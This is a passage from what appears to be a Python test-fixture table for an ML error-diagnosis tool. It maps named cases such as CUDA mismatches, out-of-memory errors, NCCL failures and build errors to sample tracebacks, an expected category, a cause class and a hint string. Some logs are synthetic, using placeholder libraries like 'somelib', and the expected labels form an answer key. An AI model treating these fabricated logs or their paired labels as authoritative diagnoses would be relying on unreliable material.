    "unsupported-op:mps_needs_newer_macos": (tb("RuntimeError: MPS support binary op with uint8 natively starting from macOS 13.0", "torch"), "unsupported-op", "environment", "macOS 13.0"),
    "build-failure:custom_ops_not_built": ("/opt/venv/lib/python3.10/site-packages/groundingdino/models/GroundingDINO/ms_deform_attn.py:31: UserWarning: Failed to load custom C++ ops. Running on CPU mode Only!\n  warnings.warn(\"Failed to load custom C++ ops. Running on CPU mode Only!\")\n", "build-failure", "environment", "CUDA_HOME"),
    "api-version-skew:constructor_parameter_history": (TB.replace("main()", "trainer = SFTTrainer(model, tokenizer=tok)") + "TypeError: __init__() got an unexpected keyword argument 'tokenizer'\n", "api-version-skew", "environment", "processing_class"),
    "api-version-skew:api_removed": (tb("AttributeError: jax.tree_map was removed in JAX v0.6.0: use jax.tree.map (jax v0.4.25 or newer) or jax.tree_util.tree_map (any JAX version).", "optax"), "api-version-skew", "environment", "jax.tree_map"),
    "api-version-skew:attribute_that_came_and_went": ('Traceback (most recent call last):\n  File "/home/me/patch_attention.py", line 31, in <module>\n    heads = layer.self_attn.num_heads\n  File "/opt/venv/lib/python3.11/site-packages/torch/nn/modules/module.py", line 1928, in __getattr__\n    raise AttributeError(\nAttributeError: \'LlamaAttention\' object has no attribute \'num_heads\'\n', "api-version-skew", "environment", "transformers<4.48"),
    "framework-internal-error:syntax_no_python_accepts": (tb("SyntaxError: non-default argument follows default argument", "somelib"), "framework-internal-error", "framework-bug", "somelib shipped or generated it wrong"),
    "accelerator-unavailable:cuda_could_not_count_gpus": ("/env/lib/python3.10/site-packages/torch/cuda/__init__.py:129: UserWarning: CUDA initialization: Unexpected error from cudaGetDeviceCount(). Did you run some cuda functions before calling NumCudaDevices() that might have already set an error? Error 500: named symbol not found (Triggered internally at ../c10/cuda/CUDAFunctions.cpp:108.)\n", "accelerator-unavailable", "environment", "cudaErrorSymbolNotFound"),
    "accelerator-unavailable:webui_torch_sees_no_gpu": (tb("RuntimeError: Torch is not able to use GPU; add --skip-torch-cuda-test to COMMANDLINE_ARGS variable to disable this check", "modules"), "accelerator-unavailable", "environment", "--use-directml"),
    "accelerator-unavailable:device_not_available_in_a_session": (">>> import torch\n>>> torch.xpu.is_available()\nFalse\n", "accelerator-unavailable", "environment", "download.pytorch.org/whl/xpu"),
    "disk-or-permission:pip_could_not_write": ("ERROR: Could not install packages due to an OSError: [WinError 5] Access is denied: 'C:\\\\ProgramData\\\\anaconda3\\\\Lib\\\\site-packages\\\\numpy'\nConsider using the `--user` option or check the permissions.\n", "disk-or-permission", "environment", "ProgramData"),
    "api-version-skew:multiple_values_for_argument": (tb("TypeError: init_process_group() got multiple values for argument 'backend'", "accelerate/state"), "api-version-skew", "environment", "accelerate's call of init_process_group()"),
    "api-version-skew:unpickled_class_not_there": (tb("AttributeError: Can't get attribute 'C3k2' on <module 'ultralytics.nn.modules.block' from '/usr/lib/python3.10/site-packages/ultralytics/nn/modules/block.py'>", "torch/serialization"), "api-version-skew", "environment", "upgrade ultralytics"),
    "api-version-skew:lightning_before_torch_2_schedulers": (tb("pytorch_lightning.utilities.exceptions.MisconfigurationException: The provided lr scheduler `LambdaLR` doesn't follow PyTorch's LRScheduler API. You should override the `LightningModule.lr_scheduler_step` hook with your own logic if you are using a custom LR scheduler.", "pytorch_lightning/core/optimizer"), "api-version-skew", "environment", "pytorch-lightning>=1.8.4,<1.9"),
    "version-mismatch:mmcv_outside_the_range": (tb("AssertionError: MMCV==2.2.0 is used but incompatible. Please install mmcv>=2.0.0rc4, <2.2.0.", "mmdet"), "version-mismatch", "environment", "mmcv>=2.0.0rc4, <2.2.0"),
    "api-version-skew:object_has_no_attribute": (tb("AttributeError: 'Config' object has no attribute 'define_bool_state'", "flax"), "api-version-skew", "environment", "define_bool_state"),
    "api-version-skew:torch_load_weights_only": (tb("_pickle.UnpicklingError: Weights only load failed. This file can still be loaded, to do so you have two options"), "api-version-skew", "environment", "weights_only"),
    "api-version-skew:keras_3": (tb("ValueError: File format not supported: filepath=model. Keras 3 only supports V3 `.keras` files and legacy H5 format files (`.h5` extension).", "keras"), "api-version-skew", "environment", "keras"),
    "api-version-skew:transformers_too_old": (tb("ValueError: The checkpoint you are trying to load has model type `qwen3` but Transformers does not recognize this architecture.", "transformers"), "api-version-skew", "environment", "qwen3"),
    "api-version-skew:import_or_attribute": (tb("ImportError: something odd happened while importing the backend", "somelib"), "api-version-skew", "environment", "somelib"),
    "version-mismatch:numpy2_abi": ("A module that was compiled using NumPy 1.x cannot be run in\nNumPy 2.1.0 as it may crash. To support both 1.x and 2.x\n", "version-mismatch", "environment", "numpy"),
    "version-mismatch:numpy_dtype_size": (tb("ValueError: numpy.dtype size changed, may indicate binary incompatibility. Expected 96 from C header, got 88 from PyObject"), "version-mismatch", "environment", "numpy"),
    "version-mismatch:jax_jaxlib": (tb("RuntimeError: jaxlib version 0.4.20 is newer than and incompatible with jax version 0.4.13. Please update your jax and/or jaxlib packages."), "version-mismatch", "environment", "jaxlib"),
    "version-mismatch:torchvision_cuda": (tb("RuntimeError: Detected that PyTorch and torchvision were compiled with different CUDA major versions. PyTorch has CUDA Version=12.1 and torchvision has CUDA Version=11.8."), "version-mismatch", "environment", "torchvision"),
    "version-mismatch:built_for_other": ("WARNING[XFORMERS]: xFormers can't load C++/CUDA extensions. xFormers was built for:\n    PyTorch 2.1.0+cu121 with CUDA 1201 (you have 2.1.0+cu118)\n", "version-mismatch", "environment", "2.1.0+cu118"),
    "version-mismatch:torchvision_ops": (tb("NotImplementedError: Could not run 'torchvision::nms' with arguments from the 'CUDA' backend."), "version-mismatch", "environment", "torchvision"),
    "version-mismatch:required_version": (tb("ImportError: tokenizers>=0.19,<0.20 is required for a normal functioning of this module, but found tokenizers==0.15.2.", "transformers"), "version-mismatch", "environment", "tokenizers"),
    "version-mismatch:extension_built_for_other_torch": (tb("RuntimeError: operator torchvision::nms does not exist"), "version-mismatch", "environment", "torchvision"),
    "version-mismatch:wrong_cpu_architecture": (tb("ImportError: dlopen(/x/_C.so, 2): tried: '/x/_C.so' (mach-o file, but is an incompatible architecture (have 'x86_64', need 'arm64'))"), "version-mismatch", "environment", "arm64"),
    "version-mismatch:versions_do_not_fit": (tb("RuntimeError: the plugin version is incompatible with this runtime", "someplugin"), "version-mismatch", "environment", ""),
    "cuda-error:cuda_error_string": (tb("RuntimeError: CUDA error: no kernel image is available for execution on the device"), "gpu-arch-unsupported", "environment", "cudaErrorNoKernelImageForDevice"),
    "cuda-error:cuda_error_name": (tb("RuntimeError: jaxlib/cuda/versions_helpers.cc:99: operation cuInit(0) failed: CUDA_ERROR_NO_DEVICE", "jax"), "accelerator-unavailable", "environment", "CUDA_ERROR_NO_DEVICE"),
    "gpu-arch-unsupported:torch_no_arch": ("UserWarning: \nNVIDIA GeForce RTX 5090 with CUDA capability sm_120 is not compatible with the current PyTorch installation.\nThe current PyTorch install supports CUDA capabilities sm_50 sm_60 sm_70 sm_75 sm_80 sm_86 sm_90.\n", "gpu-arch-unsupported", "environment", "sm_120"),
    "gpu-arch-unsupported:no_kernel_image": ("CUDA kernel failed : no kernel image is available for execution on the device\n", "gpu-arch-unsupported", "environment", ""),
    "gpu-arch-unsupported:rocm_arch": (tb("RuntimeError: HIP error: invalid device function"), "gpu-arch-unsupported", "environment", "HSA_OVERRIDE_GFX_VERSION"),
    "gpu-arch-unsupported:toolkit_too_old_for_gpu": ("ptxas fatal   : Value 'sm_120' is not defined for option 'gpu-name'\n", "gpu-arch-unsupported", "environment", "sm_120"),
    "gpu-arch-unsupported:processor_not_supported": ("RuntimeError: FlashAttention only supports Ampere GPUs or newer.\n", "gpu-arch-unsupported", "environment", "Ampere"),
    "cuda-driver-too-old:driver_too_old": (tb("RuntimeError: The NVIDIA driver on your system is too old (found version 11040). Please update your GPU driver"), "cuda-driver-too-old", "environment", "driver"),
    "cuda-driver-too-old:ptx_toolchain": (tb("RuntimeError: CUDA error: the provided PTX was compiled with an unsupported toolchain."), "cuda-driver-too-old", "environment", "driver"),
    "accelerator-unavailable:torch_sees_no_gpu": (tb('AssertionError: Torch not compiled with CUDA enabled', "torch"), "accelerator-unavailable", "environment", "CPU-only"),
    "accelerator-unavailable:jax_sees_no_accelerator": ("WARNING:jax._src.xla_bridge:An NVIDIA GPU may be present on this machine, but a CUDA-enabled jaxlib is not installed. Falling back to cpu.\n", "accelerator-unavailable", "environment", "jax[cuda12]"),
    "accelerator-unavailable:framework_sees_no_gpu": ("W tensorflow/core/common_runtime/gpu/gpu_device.cc:2256] Cannot dlopen some GPU libraries. Please make sure the missing libraries mentioned above are installed properly\n", "accelerator-unavailable", "environment", "and-cuda"),
    "cuda-library-mismatch:cudnn_mismatch": ("E external/xla/xla/stream_executor/cuda/cuda_dnn.cc:439] Loaded runtime CuDNN library: 8.6.0 but source was compiled with: 8.9.4.  CuDNN library needs to have matching major version\n", "cuda-library-mismatch", "environment", "cuDNN"),
    "cuda-library-mismatch:cuda_lib_version": ("RuntimeError: Found cuDNN version 8.9.2 which is older than the version jaxlib was built against 9.1.0\n", "cuda-library-mismatch", "environment", "cuDNN"),
    "cuda-library-mismatch:cudnn_status_version": (tb("RuntimeError: cuDNN error: CUDNN_STATUS_VERSION_MISMATCH"), "cuda-library-mismatch", "environment", "cuDNN"),
    "out-of-memory:library_alloc_failed": (tb("RuntimeError: CUDA error: CUBLAS_STATUS_ALLOC_FAILED when calling `cublasCreate(handle)`"), "out-of-memory", "not-environment", "CUBLAS"),
    "unsupported-op:mps_op": (tb("NotImplementedError: The operator 'aten::_fft_r2c' is not currently implemented for the MPS device."), "unsupported-op", "framework-bug", "PYTORCH_ENABLE_MPS_FALLBACK"),
    "device-busy:tpu_in_use": (tb("RuntimeError: TPU initialization failed: The TPU is already in use by another process probably owned by another user", "torch_xla"), "device-busy", "environment", "TPU"),
    "nccl-network:nccl_last_error": (tb("torch.distributed.DistBackendError: NCCL error in: ../ProcessGroupNCCL.cpp:1333, unhandled system error (run with NCCL_DEBUG=INFO for details), NCCL version 2.21.5\nncclSystemError: System call (e.g. socket, malloc) or external library call failed or device error.\nLast error:\nError while creating shared memory segment /dev/shm/nccl-AbCd (size 9637888)"), "nccl-shm", "environment", "--shm-size"),
    "nccl-network:nccl_warn": ("node1:123:456 [0] misc/socket.cc:484 NCCL WARN socketStartConnect: Connect to 10.0.0.2<35403> failed : Connection refused\n", "nccl-network", "environment", "NCCL_SOCKET_IFNAME"),
    "nccl-shm:shared_memory": ("node:1:2 [3] misc/shmutils.cc:71 NCCL WARN Error: failed to extend /dev/shm/nccl-fjwOOB to 5967876 bytes\n", "nccl-shm", "environment", "/dev/shm"),
    "nccl-shm:dataloader_bus_error": (tb("RuntimeError: DataLoader worker (pid(s) 1234) exited unexpectedly\nERROR: Unexpected bus error encountered in worker. This might be caused by insufficient shared memory (shm)."), "nccl-shm", "environment", "/dev/shm"),
    "nccl-address-in-use:address_in_use": (tb("torch.distributed.DistNetworkError: The server socket has failed to listen on any local network address. port: 29500, useIpv6: 0, code: -98, name: EADDRINUSE, message: address already in use"), "nccl-address-in-use", "environment", "MASTER_PORT"),
    "nccl-network:ranks_cannot_connect": (tb("RuntimeError: Gloo connectFullMesh failed with [../gloo/transport/tcp/pair.cc:144] no error"), "nccl-network", "environment", "GLOO_SOCKET_IFNAME"),
    "hang-timeout:watchdog_timeout": ("[rank1]:[E ProcessGroupNCCL.cpp:607] [Rank 1] Watchdog caught collective operation timeout: WorkNCCL(SeqNum=1532, OpType=ALLREDUCE, NumelIn=1, NumelOut=1, Timeout(ms)=600000) ran for 600027 milliseconds before timing out.\n", "hang-timeout", "unknown", "ALLREDUCE"),
    "out-of-memory:killed_by_kernel": ("torch.distributed.elastic.multiprocessing.errors.ChildFailedError:\n  exitcode  : -9 (pid: 123)\n", "out-of-memory", "not-environment", "OOM killer"),
    "user-code-error:ddp_unused_parameters": (tb("RuntimeError: Expected to have finished reduction in the prior iteration before starting a new one. This error indicates that your module has parameters that were not used in producing loss."), "user-code-error", "not-environment", "find_unused_parameters"),
    "nccl-duplicate-gpu:duplicate_gpu": ("node:1:2 [1] init.cc:871 NCCL WARN Duplicate GPU detected : rank 1 and rank 0 both on CUDA device 1000\n", "nccl-duplicate-gpu", "not-environment", "set_device"),
    "nccl-network:nccl_result": (tb("torch.distributed.DistBackendError: NCCL error in: ../ProcessGroupNCCL.cpp:1333, remote process exited or there was a network error, NCCL version 2.18.6"), "nccl-network", "environment", "ncclRemoteError"),
    "nccl-network:ranks_never_joined": (tb("torch.distributed.DistStoreError: Timed out after 1801 seconds waiting for clients. 1/2 clients joined."), "nccl-network", "environment", "1 of 2 joined"),
    "out-of-memory:torch_device_oom": (tb("torch.OutOfMemoryError: CUDA out of memory. Tried to allocate 2.00 GiB. GPU 0 has a total capacity of 79.15 GiB of which 1.10 GiB is free. Including non-PyTorch memory, this process has 78.04 GiB memory in use. Of the allocated memory 60.00 GiB is allocated by PyTorch, and 16.50 GiB is reserved by PyTorch but unallocated."), "out-of-memory", "not-environment", "expandable_segments"),
    "out-of-memory:xla_oom": (tb("jaxlib.xla_extension.XlaRuntimeError: RESOURCE_EXHAUSTED: Out of memory while trying to allocate 17179869184 bytes.", "jax"), "out-of-memory", "not-environment", "XLA_PYTHON_CLIENT_PREALLOCATE"),
    "out-of-memory:tensorflow_oom": (tb("tensorflow.python.framework.errors_impl.ResourceExhaustedError: OOM when allocating tensor with shape[4096,4096] and type float on /job:localhost", "tensorflow"), "out-of-memory", "not-environment", "4096,4096"),
    "out-of-memory:mps_oom": (tb("RuntimeError: MPS backend out of memory (MPS allocated: 17.00 GB, other allocations: 1.00 GB, max allowed: 18.13 GB). Tried to allocate 256.00 MB on private pool."), "out-of-memory", "not-environment", "PYTORCH_MPS_HIGH_WATERMARK_RATIO"),
    "out-of-memory:host_oom": (tb("numpy.core._exceptions._ArrayMemoryError: Unable to allocate 32.0 GiB for an array with shape (4294967296,) and data type float64"), "out-of-memory", "not-environment", "32.0 GiB"),
    "out-of-memory:windows_paging_file": (tb("OSError: [WinError 1455] The paging file is too small for this operation to complete."), "out-of-memory", "not-environment", "paging file"),
    "out-of-memory:memory_of_a_kind": (tb("RuntimeError: [enforce fail at alloc_cpu.cpp:117] . DefaultCPUAllocator: can't allocate memory: you tried to allocate 68719476736 bytes."), "out-of-memory", "not-environment", "host"),
    "disk-or-permission:no_space": (tb("OSError: [Errno 28] No space left on device: '/root/.cache/huggingface/hub/tmp123'"), "disk-or-permission", "environment", "/root/.cache"),
    "disk-or-permission:permission_denied": (tb("PermissionError: [Errno 13] Permission denied: '/home/other/.triton/cache'"), "disk-or-permission", "environment", "/home/other/.triton/cache"),
    "disk-or-permission:cannot_open_for_writing": (tb("RuntimeError: Parent directory runs/ckpt does not exist."), "disk-or-permission", "environment", "runs/ckpt"),
    "device-busy:device_busy": (tb("RuntimeError: CUDA error: all CUDA-capable devices are busy or unavailable"), "device-busy", "environment", ""),
    "resolver-conflict:no_distribution": ("ERROR: Could not find a version that satisfies the requirement torch==2.0.1 (from versions: 2.2.0, 2.2.1)\nERROR: No matching distribution found for torch==2.0.1\n", "resolver-conflict", "environment", "torch"),
    "resolver-conflict:conflicting_requirements": ("ERROR: pip's dependency resolver does not currently take into account all the packages that are installed.\nvllm 0.4.0 requires torch==2.1.2, but you have torch 2.3.0 which is incompatible.\n", "resolver-conflict", "environment", "vllm"),
    "resolver-conflict:wrong_python": ("ERROR: Package 'tensorflow' requires a different Python: 3.13.0 not in '<3.13,>=3.9'\n", "resolver-conflict", "environment", "3.13.0"),
    "resolver-conflict:no_such_version": ("No version 2.12.0 of the tensorflow-gpu was found.\n", "resolver-conflict", "environment", "tensorflow-gpu"),
    "resolver-conflict:wrong_wheel": ("ERROR: torch-2.1.0-cp310-cp310-linux_x86_64.whl is not a supported wheel on this platform.\n", "resolver-conflict", "environment", "wheel"),
    "build-failure:nvcc_mismatch": (tb("RuntimeError: \nThe detected CUDA version (12.4) mismatches the version that was used to compile\nPyTorch (11.8). Please make sure to use the same CUDA versions."), "build-failure", "environment", "CUDA_HOME"),
    "build-failure:no_cuda_home": (tb("OSError: CUDA_HOME environment variable is not set. Please set it to your CUDA install root."), "build-failure", "environment", "CUDA_HOME"),
    "build-failure:msvc_missing": ("error: Microsoft Visual C++ 14.0 or greater is required. Get it with \"Microsoft C++ Build Tools\"\n", "build-failure", "environment", "Build Tools"),
    "build-failure:header_missing": ("csrc/ops.cpp:1:10: fatal error: cuda_fp8.h: No such file or directory\n", "build-failure", "environment", "CUDA_HOME"),
    "build-failure:host_compiler": ("/usr/local/cuda/include/crt/host_config.h:143:2: error: #error -- unsupported GNU version! gcc versions later than 12 are not supported!\n", "build-failure", "environment", "NVCC_CCBIN"),
    "build-failure:ninja": (tb("RuntimeError: Ninja is required to load C++ extensions"), "build-failure", "environment", "ninja"),
    "build-failure:wheel_build_failed": ("  Building wheel for flash-attn (setup.py) ... error\n  ERROR: Failed building wheel for flash-attn\n", "build-failure", "environment", "flash-attn"),
    "build-failure:compile_error": (tb("RuntimeError: Error compiling objects for extension"), "build-failure", "environment", "prebuilt wheel"),
    "user-code-error:anomaly_node": ('/opt/venv/lib/python3.11/site-packages/torch/autograd/graph.py:829: UserWarning: Error detected in NativeLayerNormBackward0. Traceback of forward call that caused the error:\n  File "/home/me/train.py", line 11, in <module>\n    hidden = norm(scaled)\n', "user-code-error", "not-environment", "NativeLayerNormBackward0"),
    "user-code-error:shapes_and_devices": (tb("RuntimeError: mat1 and mat2 shapes cannot be multiplied (4x10 and 20x5)"), "user-code-error", "not-environment", "train.py:10"),
    "user-code-error:device_assert": (tb("RuntimeError: CUDA error: device-side assert triggered\n/pytorch/aten/src/ATen/native/cuda/Loss.cu:250: nll_loss_forward_reduce_cuda_kernel_2d: block: [0,0,0], thread: [5,0,0] Assertion `t >= 0 && t < n_classes` failed."), "user-code-error", "not-environment", "n_classes"),
    "user-code-error:more_shapes": (tb("RuntimeError: Error(s) in loading state_dict for Net:\n\tMissing key(s) in state_dict: \"fc.weight\"."), "user-code-error", "not-environment", "state_dict"),
    "unsupported-op:op_not_implemented": (tb('RuntimeError: "addmm_impl_cpu_" not implemented for \'Half\''), "unsupported-op", "framework-bug", "Half"),
    "unsupported-op:backend_cannot": (tb("RuntimeError: Windows not yet supported for torch.compile", "torch"), "unsupported-op", "framework-bug", "torch.compile"),
    "unsupported-op:not_supported": (tb("RuntimeError: this combination of options is not supported yet", "somelib"), "unsupported-op", "framework-bug", ""),
    "framework-internal-error:torch_internal_assert": (tb('RuntimeError: false INTERNAL ASSERT FAILED at "../torch/csrc/jit/ir.cpp":1234, please report a bug to PyTorch.'), "framework-internal-error", "framework-bug", "pytorch/issues"),
    "framework-internal-error:triton_shared_memory": (tb("triton.runtime.errors.OutOfResources: out of resource: shared memory, Required: 163842, Hardware limit: 101376. Reducing block sizes or `num_stages` may help.", "vllm/attention") .replace("    main()\n", "    main()\n" + LIB.format(pkg="triton/runtime")), "framework-internal-error", "framework-bug", "num_stages"),
    "framework-internal-error:native_abort": ("F0101 00:00:00.000000 123 pjrt_client.cc:45] Check failed: buffer != nullptr\n", "framework-internal-error", "framework-bug", "buffer != nullptr"),
    "framework-internal-error:segfault": ("Fatal Python error: Segmentation fault\n\nThread 0x00007f (most recent call first):\n", "framework-internal-error", "unknown", "faulthandler"),
    "framework-internal-error:cudnn_refused": (tb("RuntimeError: cuDNN error: CUDNN_STATUS_NOT_SUPPORTED. This error may appear if you passed in a non-contiguous input."), "framework-internal-error", "framework-bug", "cuDNN"),
    "framework-internal-error:compiler_stack": (tb("torch._inductor.exc.LoweringException: AssertionError: expected size 4==8", "torch"), "framework-internal-error", "framework-bug", "torch.compile"),
    "bad-configuration:unknown_flag": ("F0000 00:00:1.0 12 parse_flags_from_env.cc:234] Unknown flags in XLA_FLAGS: --xla_bogus_flag=1\n", "bad-configuration", "environment", "XLA_FLAGS"),
    "bad-configuration:bad_variable": (tb("RuntimeError: Unknown PJRT_DEVICE 'GPU2'", "torch_xla"), "bad-configuration", "environment", "PJRT_DEVICE"),
    "bad-configuration:windows_libuv": (tb("RuntimeError: use_libuv was requested but PyTorch was build without libuv support"), "bad-configuration", "environment", "USE_LIBUV"),
    "bad-configuration:nccl_not_here": (tb("RuntimeError: Distributed package doesn't have NCCL built in"), "bad-configuration", "environment", "gloo"),
    "bad-configuration:launcher_variables_missing": (tb("ValueError: Error initializing torch.distributed using env:// rendezvous: environment variable RANK expected, but not set"), "bad-configuration", "environment", "torchrun"),
    "resolver-conflict:no_wheel_for_this_platform": ("error: Distribution `torch==2.5.1 @ registry+https://download.pytorch.org/whl/cu124` can't be installed because it doesn't have a source distribution or wheel for the current platform\n", "resolver-conflict", "environment", "torch"),
    "missing-library:bitsandbytes_native_library": (tb("RuntimeError: \n        CUDA Setup failed despite GPU being available. Please run the following command to get more information:", "bitsandbytes"), "missing-library", "environment", "bitsandbytes"),
    "version-mismatch:xformers_for_another_torch": ("WARNING[XFORMERS]: xFormers can't load C++/CUDA extensions. xFormers was built for:\n    PyTorch 2.1.0+cu121 with CUDA 1201 (you have 2.2.0+cu121)\n" + tb("NotImplementedError: No operator found for `memory_efficient_attention_forward` with inputs:\n`cutlassF` is not supported because:\n    xFormers wasn't build with CUDA support", "xformers"), "version-mismatch", "environment", "xformers"),
    "build-failure:build_needs_module": ('      Traceback (most recent call last):\n        File "<string>", line 2, in <module>\n        File "<pip-setuptools-caller>", line 34, in <module>\n        File "/tmp/pip-install-x/flash-attn_1/setup.py", line 9, in <module>\n          import torch\n      ModuleNotFoundError: No module named \'torch\'\n', "build-failure", "environment", "--no-build-isolation"),
    "framework-internal-error:native_crash_words": ("Epoch 1/10\nProcess finished with exit code -1073741819 (0xC0000005)\n", "framework-internal-error", "unknown", "EXCEPTION_ACCESS_VIOLATION"),
    "framework-internal-error:process_ended_by": ("Epoch 1/10\nProcess finished with exit code 134 (interrupted by signal 6: SIGABRT)\n", "framework-internal-error", "unknown", "abort()"),
    "framework-internal-error:heap_corrupted": ("step 12 loss 0.31\nfree(): double free detected in tcache 2\n", "framework-internal-error", "unknown", "double free detected in tcache 2"),
    "framework-internal-error:mlir_op_invalid": ("loc(\"/work/kernel.py\":31:17): error: 'tt.dot' op expected operands to have the same element type\n", "framework-internal-error", "framework-bug", "Triton"),
    "framework-internal-error:aborted": ("2024-01-01 12:00:00.000000: F tensorflow/core/common_runtime/device/device_event_mgr.cc:221] Unexpected Event status: 1\nFatal Python error: Aborted\n", "framework-internal-error", "unknown", "SIGABRT"),
    "framework-internal-error:metal_assertion": ("/AppleInternal/Library/BuildRoots/0000/Library/Caches/com.apple.xbs/Sources/MetalPerformanceShaders/MPSCore/Types/MPSNDArray.mm:788: failed assertion `[MPSNDArray initWithDevice:descriptor:] Error: total bytes of NDArray > 2**32'\nzsh: abort      python train.py\n", "framework-internal-error", "framework-bug", "MPS"),
    "framework-internal-error:mps_graph_invalid": ("(mpsFileLoc): /AppleInternal/Library/BuildRoots/0000/Library/Caches/com.apple.xbs/Sources/MetalPerformanceShadersGraph/mpsgraph/MetalPerformanceShadersGraph/Core/Files/MPSGraphUtilities.mm:233:0: error: 'mps.subtract' op requires the same element type for all operands and results\n", "framework-internal-error", "framework-bug", "mps.subtract"),
    "gpu-arch-unsupported:ptx_feature_needs_newer_gpu": ("RuntimeError: Internal Triton PTX codegen error: \nptxas /tmp/compile-ptx-src-1a2b3c, line 57; error   : Feature '.bf16' requires .target sm_80 or higher\n", "gpu-arch-unsupported", "environment", "float16"),
    "gpu-arch-unsupported:bf16_asked_of_a_gpu_without_it": (tb("ValueError: Your setup doesn't support bf16/gpu. You need torch>=1.10, using Ampere GPU with cuda>=11.0", "transformers"), "gpu-arch-unsupported", "environment", "fp16"),
    "cuda-driver-too-old:triton_image_too_new": (tb("RuntimeError: Triton Error [CUDA]: device kernel image is invalid", "triton"), "cuda-driver-too-old", "environment", "driver"),
    "accelerator-unavailable:onnxruntime_provider_missing": ("/env/lib/python3.11/site-packages/onnxruntime/capi/onnxruntime_inference_collection.py:69: UserWarning: Specified provider 'CUDAExecutionProvider' is not in available provider names.Available providers: 'AzureExecutionProvider, CPUExecutionProvider'\n", "accelerator-unavailable", "environment", "onnxruntime-gpu"),
    "gpu-arch-unsupported:fp8_type_on_this_gpu": ("torch._dynamo.exc.BackendCompilerFailed: backend='inductor' raised:\nCompilationError: at 1:0:\ndef triton_poi_fused__to_copy_0(in_ptr0, out_ptr0, xnumel, XBLOCK : tl.constexpr):\n^\nValueError(\"type fp8e4nv not supported in this architecture. The supported fp8 dtypes are ('fp8e4b15', 'fp8e5')\")\n", "gpu-arch-unsupported", "environment", "fp8_e5m2"),
    "framework-internal-error:torchscript_interpreter": (tb("RuntimeError: The following operation failed in the TorchScript interpreter.\nTraceback of TorchScript (most recent call last):\nRuntimeError: Unsupported value kind: Tensor", "torch"), "framework-internal-error", "framework-bug", "TorchScript"),
    "accelerator-unavailable:torch_without_cuda_functions": ("/env/lib/python3.11/site-packages/app/utils.py:12: CudaWarning: module 'torch._C' has no attribute '_cuda_getDeviceCount'\n", "accelerator-unavailable", "environment", "CPU-only"),
    "version-mismatch:plugin_older_than_jax": (tb("jaxlib._jax.XlaRuntimeError: UNIMPLEMENTED: default_memory_space is not supported.", "jax"), "version-mismatch", "environment", "jax-metal"),
    "gpu-arch-unsupported:compute_type_unsupported": (tb("ValueError: Requested float16 compute type, but the target device or backend do not support efficient float16 computation.", "faster_whisper"), "gpu-arch-unsupported", "environment", "compute_type"),
    "resolver-conflict:image_install_step_failed": ('ERROR: failed to solve: process "/bin/sh -c pip install --no-cache-dir torch==2.0.1 xformers==0.0.20" did not complete successfully: exit code: 1\n', "resolver-conflict", "environment", "--progress=plain"),
    "unsupported-op:not_implemented_in_library": (tb("NotImplementedError: layer_norm op: elementwise_affine=False is not handled.", "someconverter"), "unsupported-op", "framework-bug", "someconverter"),
    "user-code-error:fsdp_unit_not_uniform": (tb("ValueError: Must flatten tensors with uniform `requires_grad` when `use_orig_params=False`", "torch/distributed/fsdp/_flat_param"), "user-code-error", "not-environment", "use_orig_params=True"),
    "gpu-arch-unsupported:bitsandbytes_int8_below_turing": ("=============================================\nERROR: Your GPU does not support Int8 Matmul!\n=============================================\n\npython: /mmfs1/gscratch/zlab/timdettmers/git/bitsandbytes/csrc/ops.cu:375: int igemmlt(cublasLtHandle_t, int, int, int, const int8_t*, const int8_t*, void*, float*, int, int, int) [with int FORMATB = 3; int DTYPE_OUT = 32; int SCALE_ROWS = 0]: Assertion `false' failed.\n", "gpu-arch-unsupported", "environment", "bitsandbytes>=0.37"),
    "version-mismatch:transformers_disabled_torch": ("Disabling PyTorch because PyTorch >= 2.1 is required but found 2.0.1\n" + tb("NameError: name 'torch' is not defined", "transformers/modeling_utils"), "version-mismatch", "environment", "torch>=2.1"),
    "api-version-skew:name_missing_in_library": (tb("NameError: name 'Unpack' is not defined", "speedylib"), "api-version-skew", "environment", "speedylib"),
    "api-version-skew:tensor_subclass_behind_torch": (tb("TypeError: Multiple dispatch failed for 'aten.clone.default'; all __torch_dispatch__ handlers returned NotImplemented:\n\n  - tensor subclass <class 'torchao.dtypes.affine_quantized_tensor.AffineQuantizedTensor'>\n\nFor more information, try re-running with TORCH_LOGS=not_implemented"), "api-version-skew", "environment", "torchao"),
    "hang-timeout:timeout_words": (tb("RuntimeError: the request timed out while waiting for the peer", "somelib"), "hang-timeout", "unknown", "--stall-after"),
    "out-of-memory:memory_words": (tb("RuntimeError: the backend ran out of device memory while building the graph", "somelib"), "out-of-memory", "not-environment", ""),
    "disk-or-permission:permission_words": (tb("RuntimeError: open /dev/accel0: operation not permitted", "somelib"), "disk-or-permission", "environment", ""),
    "unsupported-op:no_lowering": (tb("NotImplementedError: MLIR translation rule for primitive 'cholesky' not found for platform METAL", "jax"), "unsupported-op", "framework-bug", "jax-metal"),
    "unsupported-op:mps_dtype": (tb("TypeError: Trying to convert Float8_e5m2 to the MPS backend but it does not have support for that dtype.", "torch"), "unsupported-op", "framework-bug", "Float8_e5m2"),
    "framework-internal-error:native_assertion": ("python3: /src/triton/lib/Dialect/TritonGPU/Transforms/Pipeliner.cpp:412: void f(): Assertion `isa<RankedTensorType>(ty)' failed.\nAborted (core dumped)\n", "framework-internal-error", "framework-bug", "Triton"),
    "framework-internal-error:cudnn_frontend": ('Traceback (most recent call last):\n  File "/home/me/train.py", line 10, in <module>\n    out = F.scaled_dot_product_attention(q, k, v)\nRuntimeError: cuDNN Frontend error: [cudnn_frontend] Error: No execution plans support the graph.\n', "framework-internal-error", "framework-bug", "enable_cudnn_sdp"),
    "framework-internal-error:llvm_crash": ("PLEASE submit a bug report to https://github.com/llvm/llvm-project/issues/ and include the crash backtrace.\nStack dump:\n0.\tProgram arguments: /usr/bin/triton-opt --tritongpu-pipeline kernel.ttgir\nSegmentation fault (core dumped)\n", "framework-internal-error", "framework-bug", "tritongpu-pipeline"),
    "framework-internal-error:broken_internal_invariant": (TB + '  File "/opt/venv/lib/python3.11/site-packages/torch/_inductor/scheduler.py", line 120, in fuse\n    node.group\nAttributeError: \'NopKernelSchedulerNode\' object has no attribute \'group\'\n', "framework-internal-error", "framework-bug", "torch/_inductor/scheduler.py"),
    "gpu-arch-unsupported:hsa_status": (":0:rocdevice.cpp            :2881: 1234 us: [pid:1 tid:0x7f] Callback: Queue 0x7f aborting with error : HSA_STATUS_ERROR_INVALID_ISA: The instruction set architecture is invalid. code: 0x100f\n", "gpu-arch-unsupported", "environment", "HSA_OVERRIDE_GFX_VERSION"),
